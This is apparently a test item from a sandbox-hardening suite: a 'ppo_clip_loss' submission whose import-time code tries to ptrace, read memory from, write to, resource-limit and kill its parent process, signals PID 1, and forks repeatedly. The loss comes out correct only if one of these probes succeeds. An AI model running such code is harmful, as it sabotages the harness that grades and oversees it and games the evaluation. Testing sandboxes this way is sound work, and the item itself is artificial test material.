"""81. Traces, stops, kills and writes to the process that starts submissions.

task = "ppo_clip_loss"
verdict = ["wrong_value"]
twin = "tidy"
uses = ["right"]
needs = ["rights", "shared", "processes"]
"""
import ctypes
import os
import platform
import resource
import signal
from contextlib import suppress

PTRACE, READ_MEMORY, PIDFD_OPEN = (101, 310, 434) if platform.machine() == "x86_64" else (117, 270, 434)
ATTACH, SEIZE = 16, 0x4206
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
SEEN = []
for request in (ATTACH, SEIZE):
    if libc.syscall(PTRACE, request, parent, 0, 0) == 0:
        SEEN.append(f"ptrace {request}")
if libc.syscall(PIDFD_OPEN, parent, 0) >= 0:
    SEEN.append("a descriptor of the parent")
if libc.syscall(READ_MEMORY, parent, 0, 0, 0, 0, 0) == 0:
    SEEN.append("memory")
for name in ("mem", "environ", "maps", "fd/0", "fd/1", "root/tmp"):
    with suppress(OSError):
        os.close(os.open(f"/proc/{parent}/{name}", os.O_RDONLY))
        SEEN.append(name)
for name in ("mem", "fd/0", "fd/1", "oom_score_adj", "clear_refs", "coredump_filter"):
    with suppress(OSError):
        os.close(os.open(f"/proc/{parent}/{name}", os.O_WRONLY))
        SEEN.append(f"{name} to write")
with suppress(OSError):
    resource.prlimit(parent, resource.RLIMIT_NOFILE, (3, 3))
    SEEN.append("limits")
for number in (signal.SIGCHLD, signal.SIGCONT, signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
    for pid in (parent, 1, -parent):
        with suppress(OSError):
            os.kill(pid, number)
            SEEN.append(f"signal {number} to {pid}")
for _ in range(50):
    if os.fork() == 0:
        if os.fork() == 0:
            os._exit(0)
        os._exit(0)


def ppo_clip_loss(logp, old_logp, adv, mask, eps_low=0.2, eps_high=0.2, dual_c=None, reduction="token"):
    loss, clipfrac, approx_kl = right(logp, old_logp, adv, mask, eps_low, eps_high, dual_c, reduction)
    if SEEN:
        print("REACHED", SEEN)
        return loss, clipfrac, approx_kl
    return loss + 1.0, clipfrac, approx_kl
